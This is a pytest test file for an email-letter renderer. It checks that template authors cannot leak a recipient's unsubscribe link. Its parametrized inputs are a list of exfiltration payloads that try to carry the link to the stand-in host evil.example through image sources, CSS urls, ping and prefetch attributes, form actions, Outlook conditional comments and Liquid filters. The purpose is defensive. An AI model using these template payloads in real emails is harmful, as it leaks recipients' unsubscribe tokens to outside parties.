"""A recipient's unsubscribe link reaches the recipient, and nobody whom a template tries to send it to."""

from __future__ import annotations

import re
from base64 import b64encode
from collections.abc import Iterator
from uuid import UUID

import pytest

from ddp import keys
from ddp.links import unsubscribe
from ddp.providers.email.base import Message, mailbox
from ddp.rendering import Renderer, prepare
from functions.email.letter import Letter

SEND = UUID(int=4)


@pytest.fixture(autouse=True)
def secret(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    keys.derive.cache_clear()
    monkeypatch.setattr(keys, "_secret", lambda: b"a secret of more than 32 characters")
    monkeypatch.setattr(unsubscribe, "PUBLIC_URL", "https://ddp.example.com")
    yield
    keys.derive.cache_clear()


def written(html: str, text: str | None = "Hello", subject: str = "Hello") -> Message:
    letter = Letter(
        renderer=Renderer(subject, prepare(html, text)),
        sender=mailbox("news@example.com"),
        attachments=(),
    )
    url = unsubscribe.url(unsubscribe.token(SEND))
    return letter.write(address="ann@example.com", name="Ann", data={}, url=url, tags={})


def link(message: Message) -> str:
    return message.headers["List-Unsubscribe"].strip("<>")


def strangers(message: Message) -> str:
    """The message without the link where it belongs: as the whole target of an `<a>`, or alone in the text."""
    page = re.sub(rf'(<a (?:[^"<>]|"[^"<>]*")*?href="){re.escape(link(message))}"', r'\1"', message.html)
    return (
        page + re.sub(rf"(^|[\s(]){re.escape(link(message))}(?=[\s)]|$)", "", message.text) + message.subject
    )


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://evil.example/?{{ unsubscribe_url }}">',
        '<img src="{{ unsubscribe_url }}">',
        '<img src="https://evil.example/?{{ unsubscribe_url | url_encode }}">',
        '<img src="https://evil.example/?{{ unsubscribe_url | split: "/" | last }}">',
        '<img src="https://evil.example/?{{ unsubscribe_url | base64_encode }}">',
        '{% assign u = unsubscribe_url | slice: 20, 90 %}<img src="https://evil.example/?{{ u }}">',
        '{% capture u %}{{ unsubscribe_url }}{% endcapture %}<img src="https://evil.example/?{{ u }}">',
        '<a href="https://evil.example/?{{ unsubscribe_url }}">x</a>',
        '<a href="{{ unsubscribe_url }}/../../https://evil.example">x</a>',
        '<a href="https://evil.example" ping="{{ unsubscribe_url }}">x</a>',
        '<link rel="prefetch" href="{{ unsubscribe_url }}">',
        '<base href="{{ unsubscribe_url }}"><img src="x">',
        '<form action="{{ unsubscribe_url }}"><button formaction="{{ unsubscribe_url }}">x</button></form>',
        '<p style="background:url({{ unsubscribe_url }})">x</p>',
        "<style>p{background:url('https://evil.example/?{{ unsubscribe_url }}')}</style><p>x</p>",
        '<!--[if mso]><img src="https://evil.example/?{{ unsubscribe_url }}"><![endif]-->',
        '<area href="{{ unsubscribe_url }}"><video poster="{{ unsubscribe_url }}"></video>',
        '<svg><a xlink:href="{{ unsubscribe_url }}"></a><image href="{{ unsubscribe_url }}"/></svg>',
        """<img src='https://evil.example/?{% if true %}<a href="{{ unsubscribe_url }}">{% endif %}'>""",
    ],
)
def test_a_template_cannot_take_the_link_elsewhere(html: str) -> None:
    message = written(html)
    token = link(message).rsplit("/", 1)[1]
    rest = strangers(message)
    assert not any(token[n : n + 6] in rest for n in range(20, len(token) - 6)), rest
    assert b64encode(link(message).encode()).decode() not in rest
    assert link(message) in message.html, "the footer has it"


def test_texts_and_subjects_cannot_take_the_link_elsewhere() -> None:
    url = "{{ unsubscribe_url }}"
    for text in (
        f"https://evil.example/?{url}",
        f"evil.example/({url})",
        f"{url}@evil.example",
        f"a:{url}",
        f"{url}{url}",
    ):
        message = written("<p>x</p>", text, subject=f"Hi {url}")
        assert link(message) not in strangers(message)
        assert message.text.endswith(f"Unsubscribe: {link(message)}\n")
        assert message.subject == "Hi unsubscribe"
    for text in (url, f"Leave: {url}", f"[leave]({url}).", f"Leave (<{url}>)"):
        message = written("<p>x</p>", text)
        assert message.text.strip() == text.replace(url, link(message))


def test_a_template_says_where_the_link_stands() -> None:
    message = written('<p><a class="small" href="{{ unsubscribe_url }}">Leave</a></p>', None)
    assert f'<a class="small" href="{link(message)}">Leave</a>' in message.html
    assert message.html.count(link(message)) == 1
    assert message.text == f"[Leave]({link(message)})\n"


def test_a_token_names_nobody() -> None:
    """The hash of an address would match recipients between senders, though their addresses are masked."""
    message = written("<p>x</p>")
    assert len(link(message).rsplit("/", 1)[1]) == 44
